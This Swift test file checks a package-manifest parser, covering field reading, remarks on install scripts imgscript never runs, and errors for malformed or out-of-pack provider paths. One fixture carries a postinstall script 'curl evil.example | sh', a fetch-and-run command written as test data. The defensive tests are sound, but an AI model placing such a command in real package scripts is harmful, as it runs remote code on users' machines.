import Foundation
import Packs
import Testing

struct PackManifestTests {
    private func manifest(_ text: String) throws -> PackManifest { try PackManifest(parsing: text.utf8) }

    @Test func everyFieldIsRead() throws {
        let manifest = try manifest(
            """
            { "name": "@example/dogs", "version": "1.2.3-beta.1", "license": { "type": "MIT" },
              "description": "Dogs", "homepage": "https://dogs.example/", "files": ["*.js"],
              "repository": { "type": "git", "url": "https://git.example/dogs" },
              "scripts": { "test": "x", "postinstall": "curl evil.example | sh" },
              "dependencies": { "left-pad": "^1.3.0" }, "peerDependencies": { "b": "*" },
              "imgscript": { "contract": 1, "providers": ["./dogs.js", "more/cats.js"] } }
            """)
        #expect(manifest.name.description == "@example/dogs")
        #expect(manifest.version.description == "1.2.3-beta.1")
        #expect(manifest.license == "MIT")
        #expect(manifest.summary == "Dogs")
        #expect(manifest.homepage == "https://dogs.example/")
        #expect(manifest.repository == "https://git.example/dogs")
        #expect(manifest.files == ["*.js"])
        #expect(manifest.providers == ["dogs.js", "more/cats.js"])
        #expect(manifest.dependencies == ["left-pad ^1.3.0", "b *"])
        #expect(manifest.scripts == ["test", "postinstall"])
        #expect(manifest.providerFiles(in: "/p").map(\.path) == ["/p/dogs.js", "/p/more/cats.js"])
    }

    @Test func whatNpmWouldRunOrInstallIsSaid() throws {
        let manifest = try manifest(
            """
            { "name": "a", "version": "1.0.0", "scripts": { "test": "x", "postinstall": "y" },
              "dependencies": { "b": "^1" }, "imgscript": { "contract": 1, "providers": ["a.js"] } }
            """)
        #expect(
            manifest.remarks == [
                "it has install scripts (postinstall), which imgscript never runs",
                "it depends on b ^1: dependencies are not installed",
                "it states no licence",
            ])
    }

    @Test(arguments: [
        ("[]", "package.json is not an object, found array"),
        ("{", "package.json is not JSON: expected a member's name at byte 1"),
        (#"{"version": "1.0.0"}"#, "package.json: name: expected a text, found none"),
        (#"{"name": "a", "name": "b"}"#, "package.json has \"name\" twice"),
        (#"{"name": "a", "version": "1.0"}"#, "package.json: version: expected a version such as 1.0.0, found \"1.0\""),
        (#"{"name": "a", "version": "1.0.0"}"#, "package.json has no object \"imgscript\""),
        (
            #"{"name": "a", "version": "1.0.0", "files": "x"}"#,
            "package.json: files: expected a list of texts, found string"
        ),
    ])
    func mistakeIsNamed(text: String, message: String) {
        #expect { try manifest(text) } throws: { ($0 as? PackError)?.message == message }
    }

    @Test(arguments: [
        (#"{"providers": ["a.js"]}"#, "imgscript.contract: expected a number such as 1, found none"),
        (#"{"contract": 1}"#, "imgscript.providers: expected a list of files such as [\"newsite.js\"], found none"),
        (#"{"contract": 1, "providers": []}"#, "expected a list of files"),
        (#"{"contract": 1, "providers": ["../a.js"]}"#, "expected paths inside the pack, found \"../a.js\""),
        (#"{"contract": 1, "providers": ["/etc/a.js"]}"#, "expected paths inside the pack, found \"/etc/a.js\""),
        (#"{"contract": 1, "providers": ["a/../../b.js"]}"#, "expected paths inside the pack"),
        (#"{"contract": 1, "providers": ["a.ts"]}"#, "expected files named after a provider's id"),
        (#"{"contract": 1, "providers": ["a.test.js"]}"#, "expected files named after a provider's id"),
        (#"{"contract": 1, "providers": ["a-theme.js"]}"#, "expected files named after a provider's id"),
        (#"{"contract": 1, "providers": ["a.js", "b/a.js"]}"#, "lists two providers named \"a.js\""),
        (#"{"contract": 2, "providers": ["a.js"]}"#, "unsupported contract 2 (expected 1)"),
    ])
    func mistakeOfTheOwnPartIsNamed(part: String, message: String) {
        #expect {
            try manifest(#"{"name": "a", "version": "1.0.0", "imgscript": \#(part)}"#)
        } throws: {
            ($0 as? PackError)?.message.contains(message) ?? false
        }
    }

    @Test func folderWithoutManifestIsNoPack() {
        #expect { try PackManifest.read(folder: "/nowhere") } throws: { ($0 as? PackError)?.code == .manifest }
    }
}
